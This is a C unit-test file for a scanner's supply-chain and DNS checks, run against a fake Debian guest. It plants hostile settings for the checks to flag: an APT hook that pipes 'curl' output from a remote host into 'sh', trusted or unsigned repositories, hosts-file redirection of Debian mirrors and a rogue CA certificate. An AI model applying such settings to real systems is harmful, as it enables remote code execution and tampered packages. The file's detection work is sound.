/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the supply and name resolution checks (checks/supply.c,
 * checks/netconf.c) and their parsers (parse/supply.c, parse/netconf.c)
 * on a fake Debian 12 guest with a dpkg database: the clean tree gives
 * nothing above low, each planted item its finding, hostile files no
 * crash. */
#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check-harness.h"
#include "base/hash.h"
#include "base/util.h"
#include "core/pkgdb.h"
#include "parse/netconf.h"
#include "parse/supply.h"
#include "tap.h"

/* One packaged file of the fake Debian. */
struct pf {
  const char *pkg;
  const char *path;             /* as the package lists it */
  const char *content;
  int conffile;
};

static const char debconf_apt[] =
  "// Pre-configure all packages with debconf before they are installed.\n"
  "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n";

static const char resolved[] =
  "[Resolve]\n#DNS=\n#FallbackDNS=1.1.1.1#cloudflare-dns.com\n";

static const struct pf debian[] = {
  { "apt", "/etc/apt/apt.conf.d/01autoremove",
    "APT\n{\n  NeverAutoRemove\n  {\n\t\"^firmware-linux.*\";\n  };\n};\n", 1 },
  { "debconf", "/etc/apt/apt.conf.d/70debconf", debconf_apt, 1 },
  { "debian-archive-keyring", "/usr/share/keyrings/debian-archive-keyring.gpg",
    "\x99\x02\x0d\x04keyring", 0 },
  { "debian-archive-keyring",
    "/etc/apt/trusted.gpg.d/debian-archive-bookworm-automatic.asc",
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n", 0 },
  { "libc6:amd64", "/lib/x86_64-linux-gnu/libnss_files.so.2", "\177ELF nss",
    0 },
  { "libnss-myhostname:amd64", "/lib/x86_64-linux-gnu/libnss_myhostname.so.2",
    "\177ELF myhostname", 0 },
  { "ca-certificates", "/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt",
    "-----BEGIN CERTIFICATE-----\nISRG\n", 0 },
  { "systemd-resolved", "/etc/systemd/resolved.conf", resolved, 1 },
  { "base-files", "/etc/profile", "export PATH\n", 1 },
  { "wget", "/etc/wgetrc",
    "# You can set the default proxies for Wget to use\n"
    "#https_proxy = http://proxy.yoyodyne.com:18023/\n#use_proxy = on\n", 1 },
};

static void
debian_base (struct vs_test_guest *t)
{
  static const char *const pkgs[] = {
    "apt", "debconf", "debian-archive-keyring", "libc6:amd64",
    "libnss-myhostname:amd64", "ca-certificates", "systemd-resolved",
    "base-files", "wget",
  };
  struct vs_test_pkgfile owned[VS_ARRAY_SIZE (debian)];
  size_t i;

  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_symlink (t, "/lib", "usr/lib");
  vs_test_write (t, "/etc/passwd",
                 "root:x:0:0:root:/root:/bin/bash\n"
                 "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                 "admin:x:1000:1000:admin:/home/admin:/bin/bash\n", 0644);
  vs_test_mkdir (t, "/root", 0700);
  vs_test_mkdir (t, "/home/admin", 0755);
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    owned[i].pkg = debian[i].pkg;
    owned[i].path = debian[i].path;
    owned[i].data = debian[i].content;
    owned[i].len = 0;
    owned[i].conffile = debian[i].conffile;
  }
  vs_test_dpkg (t, pkgs, VS_ARRAY_SIZE (pkgs), owned, VS_ARRAY_SIZE (owned),
                "/.\n/etc\n/usr\n", NULL, NULL);
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    const struct pf *f = &debian[i];
    char *path = strncmp (f->path, "/lib/", 5) == 0
      ? vs_xasprintf ("/usr%s", f->path) : vs_xstrdup (f->path);

    vs_test_write (t, path, f->content, 0644);
    free (path);
  }
  /* What the installer writes, owned by no package. */
  vs_test_write (t, "/etc/apt/sources.list",
                 "deb http://deb.debian.org/debian bookworm main\n"
                 "deb-src http://deb.debian.org/debian bookworm main\n\n"
                 "deb http://security.debian.org/debian-security "
                 "bookworm-security main\n"
                 "deb http://deb.debian.org/debian bookworm-updates main\n",
                 0644);
  vs_test_write (t, "/etc/apt/sources.list.d/debian.sources",
                 "Types: deb\nURIs: http://cdn-aws.deb.debian.org/debian\n"
                 "Suites: bookworm bookworm-updates\nComponents: main\n"
                 "Signed-By: /usr/share/keyrings/debian-archive-keyring.gpg\n"
                 "\nTypes: deb\n"
                 "URIs: mirror+file:///etc/apt/mirrors/debian-security.list\n"
                 "Suites: bookworm-security\nComponents: main\n", 0644);
  /* Debian's cloud images name their mirrors in a list. */
  vs_test_write (t, "/etc/apt/mirrors/debian-security.list",
                 "# the security archive\n"
                 "https://deb.debian.org/debian-security\n", 0644);
  vs_test_write (t, "/etc/hostname", "bookworm\n", 0644);
  vs_test_write (t, "/etc/hosts",
                 "127.0.0.1\tlocalhost\n127.0.1.1\tbookworm.example.org\t"
                 "bookworm\n\n# The following lines are desirable for IPv6 "
                 "capable hosts\n::1     localhost ip6-localhost "
                 "ip6-loopback\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n"
                 "10.0.0.9\tbookworm.example.org bookworm\n"
                 "169.254.169.254 metadata.google.internal metadata\n", 0644);
  vs_test_write (t, "/etc/resolv.conf",
                 "domain example.org\nsearch example.org\n"
                 "nameserver 10.0.0.2\nnameserver 8.8.8.8\n"
                 "nameserver 169.254.169.253\n", 0644);
  vs_test_write (t, "/etc/nsswitch.conf",
                 "passwd:         files systemd\ngroup:          files "
                 "systemd\nhosts:          files myhostname "
                 "[!UNAVAIL=return] dns\nnetworks:       files\n", 0644);
  vs_test_write (t, "/etc/environment", "", 0644);
  vs_test_write (t, "/etc/ssl/certs/ca-certificates.crt",
                 "-----BEGIN CERTIFICATE-----\nISRG\n", 0644);
  vs_test_symlink (t, "/etc/ssl/certs/ISRG_Root_X1.pem",
                   "/usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt");
  vs_test_symlink (t, "/etc/ssl/certs/4042bcee.0", "ISRG_Root_X1.pem");
  vs_test_mkdir (t, "/usr/local/share/ca-certificates", 0755);
}

static void
load (struct vs_test_guest *t)
{
  char *note = NULL;

  if (vs_pkgdb_load (t->ctx.guest, t->ctx.os, vs_check_pkgdb_error, &t->ctx,
                     &t->ctx.pkgdb, &note) == -1 || !t->ctx.pkgdb)
    printf ("# pkgdb load failed\n");
  if (note)
    printf ("# pkgdb note: %s\n", note);
  free (note);
}

static void
run (struct vs_test_guest *t)
{
  load (t);
  if (vs_check_family (&t->ctx, VS_FAM_SUPPLY) != 0
      || vs_check_family (&t->ctx, VS_FAM_NET) != 0)
    printf ("# a family failed\n");
}

/* Findings with all of these (evidence: a substring; account may be
 * NULL for none). */
static int64_t
nfind (struct vs_test_guest *t, const char *check, const char *sev,
       const char *path, const char *ev, const char *mitre,
       const char *account)
{
  char *sql = sqlite3_mprintf ("SELECT count(*) FROM findings WHERE "
                               "check_id = %Q AND severity = %Q AND "
                               "category = substr(%Q, 1, instr(%Q, '.') - 1) "
                               "AND path = %Q AND instr(evidence, %Q) > 0 "
                               "AND mitre_attack IS %Q AND account IS %Q",
                               check, sev, check, check, path, ev, mitre,
                               account);
  int64_t n = vs_test_count (t, sql);

  sqlite3_free (sql);
  if (n < 1)
    vs_test_dump_findings (t);
  return n;
}

static void
test_clean (void)
{
  struct vs_test_guest t;

  vs_test_guest_init (&t);
  debian_base (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  run (&t);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank > 1") == 0,
          "clean: nothing above low");
  if (vs_test_count (&t, "SELECT count(*) FROM findings") > 0)
    vs_test_dump_findings (&t);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings") == 0,
          "clean: no finding at all");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "(check_id LIKE 'supply.%' OR check_id LIKE "
                         "'net.%') AND status = 'ran'") == 10,
          "clean: the ten checks ran");
  tap_ok (vs_test_count (&t, "SELECT items FROM check_runs WHERE "
                         "check_id = 'supply.apt-source'") == 6,
          "clean: six APT repositories examined (a mirror list one)");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors") == 0,
          "clean: no errors");
  vs_test_guest_free (&t);
}

static void
test_planted (void)
{
  struct vs_test_guest t;
  char big[200];

  vs_test_guest_init (&t);
  debian_base (&t);
  vs_test_write (&t, "/etc/apt/sources.list.d/updates.list",
                 "# security fixes\ndeb [trusted=yes] "
                 "http://203.0.113.7/debian bookworm main\n", 0644);
  vs_test_write (&t, "/etc/apt/sources.list.d/docker.sources",
                 "Types: deb\nURIs: https://download.docker.com/linux/debian\n"
                 "Suites: bookworm\nComponents: stable\n"
                 "Signed-By: /etc/apt/keyrings/docker.asc\n\n"
                 "Types: deb\nURIs: http://deb.debian.org/debian\n"
                 "Suites: sid\nEnabled: no\nTrusted: yes\n", 0644);
  vs_test_write (&t, "/etc/apt/keyrings/docker.asc",
                 "-----BEGIN PGP PUBLIC KEY BLOCK-----\ndocker\n", 0644);
  vs_test_write (&t, "/etc/apt/apt.conf.d/99update",
                 "APT::Update::Pre-Invoke {\n  \"curl -fsSL "
                 "http://203.0.113.7/u | sh\";\n};\n"
                 "APT { Get { AllowUnauthenticated \"true\"; }; };\n"
                 "Acquire::http::Proxy \"http://10.9.9.9:3128\";\n"
                 "DPkg::Post-Invoke { \"rm -f /var/cache/apt/*.bin\"; };\n",
                 0644);
  vs_test_write (&t, "/usr/share/keyrings/debian-archive-keyring.gpg",
                 "\x99\x02\x0d\x04keyring plus one", 0644);
  vs_test_write (&t, "/etc/yum.repos.d/extra.repo",
                 "[evil]\nname=x\nbaseurl=http://203.0.113.7/el9/\n"
                 "gpgcheck=0\n\n[vendor]\nname=v\n"
                 "baseurl=https://download.example.com/el9/\ngpgcheck=1\n"
                 "proxy=http://10.9.9.9:3128\n\n[off]\nenabled=0\n"
                 "baseurl=http://203.0.113.9/\ngpgcheck=0\n", 0644);
  vs_test_write (&t, "/root/.pip/pip.conf",
                 "[global]\nindex-url = http://203.0.113.7/simple\n"
                 "trusted-host = 203.0.113.7\n", 0644);
  vs_test_write (&t, "/home/admin/.npmrc",
                 "registry=https://npm.example.com/\nstrict-ssl=true\n", 0644);
  vs_test_write (&t, "/etc/gemrc",
                 "---\n:sources:\n- https://rubygems.org/\n"
                 "- http://gems.example.net/\n:update_sources: true\n", 0644);
  vs_test_write (&t, "/etc/hosts",
                 "127.0.0.1\tlocalhost\n127.0.1.1\tbookworm\n"
                 "::1     localhost ip6-localhost ip6-loopback\n"
                 "203.0.113.7 deb.debian.org security.debian.org\n"
                 "10.1.1.1 metadata.google.internal\n"
                 "0.0.0.0 pypi.org\n10.0.0.5 db.internal\n", 0644);
  vs_test_write (&t, "/etc/resolv.conf", "nameserver 203.0.113.53\n"
                 "nameserver 1.1.1.1\n", 0644);
  vs_test_write (&t, "/etc/nsswitch.conf",
                 "passwd: files\nhosts: files cache [NOTFOUND=return] dns\n",
                 0644);
  vs_test_write (&t, "/usr/lib/x86_64-linux-gnu/libnss_cache.so.2",
                 "\177ELF planted", 0644);
  vs_test_write (&t, "/etc/systemd/resolved.conf.d/dns.conf",
                 "[Resolve]\nDNS=198.51.100.53#dns.example 10.0.0.2\n", 0644);
  vs_test_write (&t, "/etc/environment",
                 "https_proxy=\"http://203.0.113.8:8080\"\n", 0644);
  vs_test_write (&t, "/usr/local/share/ca-certificates/corp-root.crt",
                 "-----BEGIN CERTIFICATE-----\ncorp\n", 0644);
  vs_test_write (&t, "/etc/ssl/certs/mitm.pem",
                 "-----BEGIN CERTIFICATE-----\nmitm\n", 0644);
  vs_test_symlink (&t, "/etc/ssl/certs/corp-root.pem",
                   "/usr/local/share/ca-certificates/corp-root.crt");
  vs_test_guest_scan (&t, "debian", "deb");
  run (&t);

  tap_ok (nfind (&t, "supply.apt-source", "high",
                 "/etc/apt/sources.list.d/updates.list",
                 "line 2: deb [trusted=yes] http://203.0.113.7/debian",
                 "T1195.002", NULL) == 1, "trusted=yes source is high");
  tap_ok (nfind (&t, "supply.apt-source", "medium",
                 "/etc/apt/sources.list.d/docker.sources",
                 "a repository on download.docker.com, not a distribution "
                 "host", "T1195.002", NULL) == 1,
          "deb822 vendor repository is medium, its key noted");
  tap_ok (nfind (&t, "supply.apt-source", "medium",
                 "/etc/apt/sources.list.d/docker.sources",
                 "signed-by names a key no package installed", "T1195.002",
                 NULL) == 1, "the unowned signed-by key is in the evidence");
  tap_ok (nfind (&t, "supply.apt-source", "high",
                 "/etc/apt/sources.list.d/debian.sources",
                 "signed-by names a packaged key that was changed",
                 "T1195.002", NULL) == 1,
          "a source signed by the changed keyring is high");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'supply.apt-source'") == 3,
          "a disabled deb822 stanza is not reported");
  tap_ok (nfind (&t, "supply.keyring", "medium", "/etc/apt/keyrings/docker.asc",
                 "not from a package", "T1195.002", NULL) == 1,
          "unowned repository key is medium");
  tap_ok (nfind (&t, "supply.keyring", "high",
                 "/usr/share/keyrings/debian-archive-keyring.gpg",
                 "modified since package debian-archive-keyring", "T1195.002",
                 NULL) == 1, "changed packaged keyring is high");
  tap_ok (nfind (&t, "supply.apt-conf", "high",
                 "/etc/apt/apt.conf.d/99update",
                 "APT::Update::Pre-Invoke \"curl -fsSL http://203.0.113.7/u "
                 "| sh\"", "T1546", NULL) == 1,
          "update hook that downloads and runs is high");
  tap_ok (nfind (&t, "supply.apt-conf", "high",
                 "/etc/apt/apt.conf.d/99update",
                 "line 4: APT::Get::AllowUnauthenticated \"true\"",
                 "T1195.002", NULL) == 1,
          "AllowUnauthenticated in nested blocks is high");
  tap_ok (nfind (&t, "supply.apt-conf", "medium",
                 "/etc/apt/apt.conf.d/99update", "DPkg::Post-Invoke \"rm -f",
                 "T1546", NULL) == 1, "an ordinary hook is medium");
  tap_ok (nfind (&t, "supply.proxy", "medium", "/etc/apt/apt.conf.d/99update",
                 "Acquire::http::Proxy \"http://10.9.9.9:3128\"", "T1090",
                 NULL) == 1, "apt proxy is medium");
  tap_ok (nfind (&t, "supply.rpm-repo", "high", "/etc/yum.repos.d/extra.repo",
                 "gpgcheck is off", "T1195.002", NULL) == 1,
          "gpgcheck=0 over http is high");
  tap_ok (nfind (&t, "supply.rpm-repo", "medium",
                 "/etc/yum.repos.d/extra.repo",
                 "a repository on download.example.com", "T1195.002",
                 NULL) == 1, "vendor rpm repository is medium");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'supply.rpm-repo'") == 2,
          "a disabled repository is not reported");
  tap_ok (nfind (&t, "supply.proxy", "medium", "/etc/yum.repos.d/extra.repo",
                 "proxy=http://10.9.9.9:3128", "T1090", NULL) == 1,
          "yum proxy is medium");
  tap_ok (nfind (&t, "supply.lang-index", "high", "/root/.pip/pip.conf",
                 "index-url = http://203.0.113.7/simple", "T1195.001",
                 "root") == 1, "pip index over http is high");
  tap_ok (nfind (&t, "supply.lang-index", "high", "/root/.pip/pip.conf",
                 "trusted-host", "T1195.001", "root") == 1,
          "pip trusted-host is high");
  tap_ok (nfind (&t, "supply.lang-index", "medium", "/home/admin/.npmrc",
                 "npm takes packages from npm.example.com", "T1195.001",
                 "admin") == 1, "npm registry of a user is medium");
  tap_ok (nfind (&t, "supply.lang-index", "high", "/etc/gemrc",
                 "line 4: http://gems.example.net/", "T1195.001", NULL) == 1,
          "gem source over http is high, rubygems.org is not reported");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'supply.lang-index'") == 4,
          "four index findings");
  tap_ok (nfind (&t, "net.hosts", "high", "/etc/hosts",
                 "lookups of security.debian.org (a package mirror or "
                 "security update host) go to 203.0.113.7", "T1565.001",
                 NULL) == 1, "hosts redirects the security host: high");
  tap_ok (nfind (&t, "net.hosts", "high", "/etc/hosts",
                 "203.0.113.7 deb.debian.org", "T1565.001", NULL) == 2,
          "both redirected mirror names are high");
  tap_ok (nfind (&t, "net.hosts", "high", "/etc/hosts",
                 "metadata.google.internal (the cloud metadata service) go to "
                 "10.1.1.1", "T1565.001", NULL) == 1,
          "metadata name elsewhere is high");
  tap_ok (nfind (&t, "net.hosts", "high", "/etc/hosts", "(blocked)",
                 "T1565.001", NULL) == 1, "pypi.org blocked is high");
  tap_ok (nfind (&t, "net.hosts", "low", "/etc/hosts", "db.internal",
                 "T1565.001", NULL) == 1, "an ordinary entry is low");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'net.hosts'") == 5,
          "localhost, ip6 and the host name are not reported");
  tap_ok (nfind (&t, "net.resolver", "medium", "/etc/resolv.conf",
                 "nameserver 203.0.113.53", "T1557", NULL) == 1,
          "an unusual public name server is medium, 1.1.1.1 is not");
  tap_ok (nfind (&t, "net.resolver", "medium",
                 "/etc/systemd/resolved.conf.d/dns.conf", "DNS=198.51.100.53",
                 "T1557", NULL) == 1, "resolved DNS= is judged the same way");
  tap_ok (nfind (&t, "net.resolver", "high", "/etc/nsswitch.conf",
                 "libnss_cache.so.2 (not from a package)", "T1574",
                 NULL) == 1, "an unowned NSS module is high");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'net.resolver'") == 3,
          "packaged NSS modules and private servers are not reported");
  tap_ok (nfind (&t, "net.proxy", "medium", "/etc/environment",
                 "https_proxy=\"http://203.0.113.8:8080\"", "T1090",
                 NULL) == 1, "system-wide proxy is medium");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'net.proxy'") == 1,
          "wgetrc's commented proxies are not reported");
  tap_ok (nfind (&t, "net.ca-cert", "medium",
                 "/usr/local/share/ca-certificates/corp-root.crt",
                 "not from a package", "T1553.004", NULL) == 1,
          "a local CA certificate is medium");
  tap_ok (nfind (&t, "net.ca-cert", "medium", "/etc/ssl/certs/mitm.pem",
                 "not from a package", "T1553.004", NULL) == 1,
          "an unowned certificate in /etc/ssl/certs is medium");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'net.ca-cert'") == 2,
          "the link to the local certificate and the packaged ones are not "
          "reported again");
  vs_test_guest_free (&t);

  /* Hostile files: deep apt.conf nesting, a long sources line, binary
   * junk: no crash, the checks still run. */
  vs_test_guest_init (&t);
  debian_base (&t);
  {
    struct vs_buf b = VS_BUF_INIT;
    int i;

    for (i = 0; i < 5000; i++)
      vs_buf_adds (&b, "A { ");
    vs_buf_adds (&b, "Trusted \"x\"; \"unterminated");
    vs_test_write (&t, "/etc/apt/apt.conf.d/deep", b.data, 0644);
    vs_buf_release (&b);
  }
  memset (big, 'a', sizeof big - 1);
  big[sizeof big - 1] = '\0';
  vs_test_write_len (&t, "/etc/apt/sources.list.d/junk.list",
                     "deb [\0trusted=yes http://x\n\xff\xfe", 29, 0644);
  vs_test_write (&t, "/etc/hosts", big, 0644);
  vs_test_guest_scan (&t, "debian", "deb");
  run (&t);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "check_id LIKE 'supply.%' AND status = 'ran'") == 6,
          "hostile files: the supply checks ran");
  vs_test_guest_free (&t);
}

/* More settings, and a guest without a package database. */
static void
test_more (void)
{
  struct vs_test_guest t;

  vs_test_guest_init (&t);
  debian_base (&t);
  vs_test_write (&t, "/etc/dnf/dnf.conf",
                 "[main]\ngpgcheck=0\ninstallonly_limit=3\n", 0644);
  vs_test_write (&t, "/etc/yum.repos.d/fedora.repo",
                 "[fedora]\nmetalink=https://mirrors.fedoraproject.org/"
                 "metalink?repo=fedora-$releasever\n", 0644);
  vs_test_write (&t, "/etc/npmrc", "strict-ssl=false\n"
                 "https-proxy=http://10.9.9.9:3128\n", 0644);
  vs_test_write (&t, "/home/admin/.gemrc", ":ssl_verify_mode: 0\n", 0644);
  vs_test_write (&t, "/etc/apt/apt.conf.d/80tls",
                 "Acquire::https::Verify-Peer \"false\";\n"
                 "Acquire::http::Proxy::deb.debian.org \"DIRECT\";\n", 0644);
  vs_test_write (&t, "/etc/apt/sources.list.d/fast.sources",
                 "Types: deb\nURIs: mirror+file:/etc/apt/mirrors/fast.list\n"
                 "Suites: bookworm\nComponents: main\n", 0644);
  vs_test_write (&t, "/etc/apt/mirrors/fast.list",
                 "https://deb.debian.org/debian\nhttp://203.0.113.7/debian\n",
                 0644);
  vs_test_write (&t, "/etc/profile.d/proxy.sh",
                 "export HTTP_PROXY=http://proxy.corp.example:8080\n"
                 "# export https_proxy=http://off.example\n", 0644);
  vs_test_guest_scan (&t, "debian", "deb");
  run (&t);
  tap_ok (nfind (&t, "supply.rpm-repo", "high", "/etc/dnf/dnf.conf",
                 "gpgcheck=0", "T1195.002", NULL) == 1,
          "gpgcheck=0 in [main] is high");
  tap_ok (nfind (&t, "supply.rpm-repo", "medium",
                 "/etc/yum.repos.d/fedora.repo", "gpgcheck is off",
                 "T1195.002", NULL) == 1,
          "a distribution repository under [main] gpgcheck=0 over https is "
          "medium");
  tap_ok (nfind (&t, "supply.lang-index", "high", "/etc/npmrc",
                 "strict-ssl=false", "T1195.001", NULL) == 1,
          "npm strict-ssl=false is high");
  tap_ok (nfind (&t, "supply.proxy", "medium", "/etc/npmrc",
                 "https-proxy=http://10.9.9.9:3128", "T1090", NULL) == 1,
          "npm proxy is medium");
  tap_ok (nfind (&t, "supply.lang-index", "high", "/home/admin/.gemrc",
                 ":ssl_verify_mode: 0", "T1195.001", "admin") == 1,
          "gem without TLS checks is high");
  tap_ok (nfind (&t, "supply.apt-conf", "medium", "/etc/apt/apt.conf.d/80tls",
                 "Acquire::https::Verify-Peer \"false\"", "T1195.002",
                 NULL) == 1, "apt without TLS checks is medium");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= 'supply.proxy'") == 1,
          "a DIRECT apt proxy is not reported");
  tap_ok (nfind (&t, "supply.apt-source", "medium",
                 "/etc/apt/sources.list.d/fast.sources",
                 "a repository on 203.0.113.7, not a distribution host, over "
                 "plain http", "T1195.002", NULL) == 1,
          "a mirror list that names another host is medium");
  tap_ok (nfind (&t, "net.proxy", "medium", "/etc/profile.d/proxy.sh",
                 "export HTTP_PROXY=http://proxy.corp.example:8080", "T1090",
                 NULL) == 1, "a proxy exported by a profile script is medium, "
          "the commented one is not");
  vs_test_guest_free (&t);

  /* No package database: what would be medium is low. */
  vs_test_guest_init (&t);
  vs_test_write (&t, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n",
                 0644);
  vs_test_write (&t, "/etc/apt/sources.list",
                 "deb https://apt.example.com/debian bookworm main\n", 0644);
  vs_test_guest_scan (&t, "debian", "deb");
  vs_check_family (&t.ctx, VS_FAM_SUPPLY);
  tap_ok (nfind (&t, "supply.apt-source", "low", "/etc/apt/sources.list",
                 "a repository on apt.example.com", "T1195.002", NULL) == 1,
          "no package database: a vendor source is low");
  vs_test_guest_free (&t);
}

static int
count_source (void *opaque, const struct vs_apt_source *s)
{
  (*(int *) opaque) += 1 + s->trusted * 10;
  return 0;
}

static int
count_conf (void *opaque, const struct vs_aptconf_item *it)
{
  if (strcmp (it->key, "DPkg::Pre-Invoke") == 0 && it->value_len == 3)
    (*(int *) opaque)++;
  return 0;
}

static void
test_parsers (void)
{
  int n = 0;
  const char *h;
  size_t hl;
  int plain;
  static const char *const list[] = { ".debian.org", "pypi.org", NULL };
  static const char conf[] =
    "DPkg { Pre-Invoke { \"one\"; \"two\"; }; };\n"
    "// DPkg::Pre-Invoke { \"off\"; };\n/* DPkg::Pre-Invoke \"off\"; */\n"
    "DPkg::Pre-Invoke:: \"six\";\n";

  vs_apt_sources_parse ("deb [ trusted=yes arch=amd64 ] http://a/ x main\n"
                        "deb-src http://b/ y\n#deb http://c/ z\n"
                        "deb [broken http://d/ q\n", 80, 0, count_source, &n);
  tap_ok (n == 12, "one-line sources: two entries, one trusted");
  n = 0;
  vs_apt_sources_parse ("Types: deb\nURIs: http://a/\n http://b/\n"
                        "Trusted: yes\n\n\nTypes: deb\nURIs: http://c/\n",
                        71, 1, count_source, &n);
  tap_ok (n == 23, "deb822: continuation URIs, stanzas apart");
  n = 0;
  vs_aptconf_parse (conf, strlen (conf), count_conf, &n);
  tap_ok (n == 2, "apt.conf: list items under nested blocks, comments out");
  tap_ok (vs_url_host ("http://u:p@[2001:db8::1]:80/x", 29, &h, &hl, &plain)
          == 0 && hl == 11 && plain, "URL host: IPv6 in brackets, user");
  tap_ok (vs_url_host ("https://Deb.Debian.org./d", 25, &h, &hl, &plain) == 0
          && !plain && vs_host_in (h, hl, list)
          && !vs_host_in ("evildebian.org", 14, list)
          && vs_host_in ("debian.org", 10, list)
          && !vs_host_in ("pypi.org.evil", 13, list),
          "host lists: domains, case, trailing dot, no look-alikes");
  tap_ok (vs_addr_kind ("10.1.2.3", 8) == VS_ADDR_PRIVATE
          && vs_addr_kind ("::ffff:127.0.0.1", 16) == VS_ADDR_LOOPBACK
          && vs_addr_kind ("fe80::1%eth0", 12) == VS_ADDR_LINK_LOCAL
          && vs_addr_kind ("203.0.113.7", 11) == VS_ADDR_PUBLIC
          && vs_addr_kind ("nonsense", 8) == VS_ADDR_BAD
          && vs_addr_same ("0::1", 4, "::1"), "address kinds");
}

int
main (void)
{
  tap_plan (57);
  test_clean ();
  test_planted ();
  test_more ();
  test_parsers ();
  return tap_done ();
}
